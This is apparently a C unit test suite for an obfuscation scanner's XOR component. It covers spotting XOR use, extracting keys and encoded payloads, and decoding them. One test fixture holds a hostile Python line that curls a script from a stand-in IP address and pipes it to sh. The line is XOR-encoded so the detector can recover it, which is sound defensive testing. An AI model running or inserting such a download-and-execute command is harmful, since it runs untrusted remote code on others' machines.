/*
 * check_xor.c - the XOR view (scanners/child/scan_xor.c) on its own: which
 * text uses XOR, which literals are its keys, which are its payloads, and
 * which key decodes a payload; hostile shapes stay within the limits. The
 * engine's use of the view is tested by check_engine (xor_view);
 * tests/data/flow (class xor) measures recall.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan_decode.h"
#include "scan_xor.h"
#include "util.h"

static int
uses(const char *s)
{
	return scan_xor_uses(s, strlen(s));
}

START_TEST(what_uses_xor)
{
	ck_assert(uses("x = a ^ b\n"));
	ck_assert(uses("out[i] = c^0x5a;"));
	ck_assert(uses("h ^= byte\n"));
	ck_assert(uses("bytes(b ^ k[i % 4] for i, b in enumerate(d))"));
	ck_assert(uses("s.map(c => c.charCodeAt(0) ^ 42)"));
	ck_assert(uses("$o[$i] = $b[$i] -bxor $k[$i % $k.Length]"));
	ck_assert(uses("$x = $a -BXOR 0x21"));
	ck_assert(uses("f(x) ^ (y)"));
	/* A regex's ^, a class, a lone caret, Go's unary complement. */
	ck_assert(!uses("if re.match(r'^abc', s):\n"));
	ck_assert(!uses("const r = /^[^a-z]+$/;\n"));
	ck_assert(!uses("sep = \"^\"\nx = ^y\n"));
	ck_assert(!uses("grep -E '^#' file | sed 's/^ *//'\n"));
	ck_assert(!uses("s-bxorish\n"));
	ck_assert(!uses(""));
	/* Two numbers: a constant (prose about sizes), unless the text
	 * XORs something else too; a number with a name is a use. */
	ck_assert(!uses("range [0,2^32-1], or 10 ^ 6 bytes\n"));
	ck_assert(!uses("k = 0x41 ^ 0x20\n"));
	ck_assert(uses("k = 0x41 ^ 0x20\nout = [c ^ k for c in d]\n"));
	ck_assert(uses("n^2"));
	ck_assert(uses("x = 7 ^ key\n"));
	ck_assert(uses("x = key_2 ^ 7\n"));
}
END_TEST

static size_t
keys_of(const char *s, struct xor_key *k)
{
	return scan_xor_keys(s, strlen(s), k, XOR_KEYS);
}

static int
has_key(const struct xor_key *k, size_t n, const char *key, size_t len)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (k[i].n == len && memcmp(k[i].k, key, len) == 0)
			return 1;
	return 0;
}

START_TEST(literal_keys)
{
	struct xor_key k[XOR_KEYS];
	size_t n;

	/* A name on the XOR line given a bytes literal, defined above. */
	n = keys_of("KEY = b\"k3y!\"\nP = 'x'\n"
	    "out = bytes(c ^ KEY[i % len(KEY)] for i, c in enumerate(d))\n", k);
	ck_assert(has_key(k, n, "k3y!", 4));
	/* Numbers on the line; a name defined below its use. */
	n = keys_of("y = x ^ 0x5a\nz = w ^ 42 ^ k2\nk2 = 7\n", k);
	ck_assert(has_key(k, n, "\x5a", 1));
	ck_assert(has_key(k, n, "\x2a", 1));
	ck_assert(has_key(k, n, "\x07", 1));
	/* Go, JavaScript, PowerShell, a struct field, an escaped key. */
	n = keys_of("key := []byte(\"g0k\")\nb[i] ^= key[i%3]\n", k);
	ck_assert(has_key(k, n, "g0k", 3));
	n = keys_of("const mask = [1, 2, 0x30];\n"
	    "o = d.map((b, i) => b ^ mask[i % 3]);\n", k);
	ck_assert(has_key(k, n, "\x01\x02\x30", 3));
	n = keys_of("[byte[]]$pad = 0x11,0x22\n$o = $b -bxor $pad[0]\n"
	    "$k = 'ps1'\n$q = $z -bxor $k\n", k);
	ck_assert(has_key(k, n, "ps1", 3));
	n = keys_of("cfg := T{secret: \"s\\x01cr\"}\nb ^ cfg.secret[0]\n", k);
	ck_assert(has_key(k, n, "s\x01" "cr", 4));
	/* A name compared, not given a value, gives nothing; nor does a
	 * file without XOR. */
	n = keys_of("if KEY == \"abc\": pass\nx = a ^ KEY\n", k);
	ck_assert(!has_key(k, n, "abc", 3));
	ck_assert_uint_eq(keys_of("KEY = 'abc'\nx = a + KEY\n", k), 0);
	/* Too long to be a key; out of range numbers. */
	n = keys_of("K = '0123456789012345678901234567890123456789'\n"
	    "x = y ^ K ^ 300 ^ 0\n", k);
	ck_assert_uint_eq(n, 0);
}
END_TEST

START_TEST(keys_are_bounded)
{
	char *t = malloc(100000);
	struct xor_key k[XOR_KEYS];
	size_t o = 0, n, i;

	ck_assert_ptr_nonnull(t);
	for (i = 0; i < 200; i++)
		o += (size_t)snprintf(t + o, 100000 - o,
		    "a%zu = b ^ '%zu%zu' ^ %zu\n", i, i, i, i % 255 + 1);
	n = scan_xor_keys(t, o, k, XOR_KEYS);
	ck_assert_uint_eq(n, XOR_KEYS);
	for (i = 0; i < n; i++)
		ck_assert(k[i].n >= 1 && k[i].n <= XOR_KEY_MAX);
	ck_assert_uint_eq(scan_xor_keys(t, o, k, 3), 3);
	free(t);
}
END_TEST

/* The payloads of s, each as "S-E:LEN" (the literal's bytes and its
 * decoded length), joined by spaces. */
static const char *
blobs(const char *s, unsigned char *first)
{
	static char out[512];
	unsigned char *buf = malloc(XOR_BLOB_MAX);
	size_t pos = 0, b, e, k, o = 0;

	ck_assert_ptr_nonnull(buf);
	out[0] = '\0';
	while ((k = scan_xor_blob(s, strlen(s), &pos, buf, &b, &e)) > 0) {
		if (o == 0 && first != NULL)
			memcpy(first, buf, k < 64 ? k : 64);
		o += (size_t)snprintf(out + o, sizeof(out) - o, "%s%zu-%zu:%zu",
		    o ? " " : "", b, e, k);
		ck_assert(pos >= e);
	}
	free(buf);
	return out;
}

START_TEST(payloads)
{
	unsigned char d[64];

	/* base64 (16 characters or more), hex (24 or more), escapes, an
	 * array of bytes over lines; short literals are no payload. */
	ck_assert_str_eq(blobs("p = 'AAECAwQFBgcICQoLDA0ODw=='\n", d),
	    "4-30:16");
	ck_assert_uint_eq(d[15], 15);
	ck_assert_str_eq(blobs("h = \"000102030405060708090a0b\"", d),
	    "4-30:12");
	ck_assert_uint_eq(d[11], 11);
	ck_assert_str_eq(blobs("s = b\"\\x01\\x02\\x03\\x04\\x05\\x06\\x07"
	    "\\x08\\x09\\x0a\\x0b\\xff\"", d), "5-55:12");
	ck_assert_uint_eq(d[11], 0xff);
	ck_assert_str_eq(blobs("a = [1, 2, 3,\n  4, 5, 6, 7, 8,\n"
	    "  0x09, 10, -1, 255];", d), "4-51:12");
	ck_assert_uint_eq(d[10], 0xff);
	ck_assert_str_eq(blobs("x = 'short'; f(1, 2); y = [1, 'a']", NULL), "");
	/* An unterminated quote ends at its line; the next line is read. */
	ck_assert_str_eq(blobs("it's\nq = '\001\002\003\004\005\006\007"
	    "\016\017\020\021\022'\n", NULL), "9-23:12");
	/* Words written as words are no payload; spelled as codes they are
	 * one (joined over lines, with + or .). */
	ck_assert_str_eq(blobs("q = 'hello world, hello'\n", NULL), "");
	ck_assert_str_eq(blobs("q = ('\\x68\\x65\\x6c\\x6c\\x6f\\x20'\n"
	    "  '\\x77\\x6f' + \"\\x72\\x6c\\x64\\x21\")", d), "5-65:12");
	ck_assert(memcmp(d, "hello world!", 12) == 0);
	/* A long literal gives its first XOR_BLOB_MAX bytes. */
	{
		size_t n = 3 * XOR_BLOB_MAX, pos = 0, s, e;
		char *t = malloc(n + 3);
		unsigned char *buf = malloc(XOR_BLOB_MAX);

		ck_assert_ptr_nonnull(t);
		ck_assert_ptr_nonnull(buf);
		t[0] = '"';
		memset(t + 1, 1, n);
		t[n + 1] = '"';
		t[n + 2] = '\0';
		ck_assert_uint_eq(scan_xor_blob(t, n + 2, &pos, buf, &s, &e),
		    XOR_BLOB_MAX);
		ck_assert_uint_eq(e, n + 2);
		free(t);
		free(buf);
	}
}
END_TEST

static void
xor_with(const char *pt, const char *key, size_t kn, unsigned char *ct)
{
	size_t i, n = strlen(pt);

	for (i = 0; i < n; i++)
		ct[i] = (unsigned char)pt[i] ^ (unsigned char)key[i % kn];
}

START_TEST(decoding)
{
	static const char pt[] =
	    "import os;os.system(\"curl -s http://203.0.113.7/x | sh\")";
	size_t n = strlen(pt);
	unsigned char ct[128], out[256];
	struct xor_key keys[3], got;

	memset(keys, 0, sizeof(keys));
	keys[0].n = 2;
	memcpy(keys[0].k, "zz", 2);
	keys[1].n = 4;
	memcpy(keys[1].k, "k3y!", 4);
	/* A multi-byte literal key: the one that makes text. */
	xor_with(pt, "k3y!", 4, ct);
	ck_assert_int_eq(scan_xor_try(ct, n, keys, 2, out, &got), 1);
	ck_assert(memcmp(out, pt, n) == 0);
	ck_assert_uint_eq(got.n, 4);
	/* No literal key: the single byte, when the payload is not text. */
	xor_with(pt, "\xa5", 1, ct);
	ck_assert_int_eq(scan_xor_try(ct, n, keys, 2, out, &got), 1);
	ck_assert(memcmp(out, pt, n) == 0);
	ck_assert_uint_eq(got.k[0], 0xa5);
	/* A printable ciphertext (a small key): only a literal key, and only
	 * when it gives the text its spaces. */
	xor_with(pt, "\x07", 1, ct);
	ck_assert_int_eq(scan_xor_try(ct, n, keys, 2, out, &got), 0);
	keys[2].n = 1;
	keys[2].k[0] = 7;
	ck_assert_int_eq(scan_xor_try(ct, n, keys, 3, out, &got), 1);
	ck_assert(memcmp(out, pt, n) == 0);
	/* Text stays as it is; noise stays noise. */
	ck_assert_int_eq(scan_xor_try((const unsigned char *)pt, n, keys, 3,
	    out, &got), 0);
	{
		unsigned char noise[256];
		unsigned x = 12345;
		size_t i;

		for (i = 0; i < sizeof(noise); i++) {
			x = x * 1103515245u + 12345u;
			noise[i] = (unsigned char)(x >> 16);
		}
		ck_assert_int_eq(scan_xor_try(noise, sizeof(noise), keys, 3,
		    out, &got), 0);
	}
	ck_assert_int_eq(scan_xor_try(ct, 0, keys, 3, out, &got), 0);
}
END_TEST

/*
 * scan_is_text reads printable ASCII 8 bytes at a time: the same answer
 * as reading every code point (the reference below), for every byte
 * value at every position of words and tails, and for random mixes.
 */
static int
is_text_ref(const unsigned char *p, size_t n)
{
	size_t i = 0, bad = 0, printable = 0;
	uint32_t cp;

	while (i < n) {
		size_t len = al_utf8_seq(p + i, n - i, &cp);

		if (len == 0 || (cp < 0x20 && cp != '\t' && cp != '\n' &&
		    cp != '\r') || cp == 0x7f) {
			bad++;
			len = len ? len : 1;
		} else {
			printable++;
		}
		i += len;
	}
	return printable >= 8 && bad * 50 <= printable;
}

START_TEST(text_by_words)
{
	unsigned char b[64];
	unsigned seed = 7;
	size_t n, at, k, r;
	unsigned v;

	for (n = 0; n <= 40; n++)
		for (at = 0; at < n; at++)
			for (v = 0; v < 256; v++) {
				memset(b, 'a', n);
				b[at] = (unsigned char)v;
				ck_assert_msg(scan_is_text(b, n) ==
				    is_text_ref(b, n), "n %zu at %zu byte %u",
				    n, at, v);
			}
	for (r = 0; r < 200000; r++) {
		static const unsigned char pick[] = {'a', ' ', '~', 0x7f, 0x1f,
		    0x20, '\t', '\n', 0x80, 0xc3, 0xa9, 0xe2, 0xff, 0x00};

		n = (seed = seed * 1103515245u + 12345u) % 41;
		for (k = 0; k < n; k++) {
			seed = seed * 1103515245u + 12345u;
			b[k] = (seed >> 16) % 4 ? 'x' :
			    pick[(seed >> 8) % sizeof(pick)];
		}
		ck_assert_int_eq(scan_is_text(b, n), is_text_ref(b, n));
	}
}
END_TEST

static Suite *
xor_suite(void)
{
	Suite *s = suite_create("xor");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, what_uses_xor);
	tcase_add_test(tc, literal_keys);
	tcase_add_test(tc, keys_are_bounded);
	tcase_add_test(tc, payloads);
	tcase_add_test(tc, decoding);
	tcase_add_test(tc, text_by_words);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(xor_suite());
	int nf;

	srunner_run_all(sr, CK_NORMAL);
	nf = srunner_ntests_failed(sr);
	srunner_free(sr);
	return nf == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
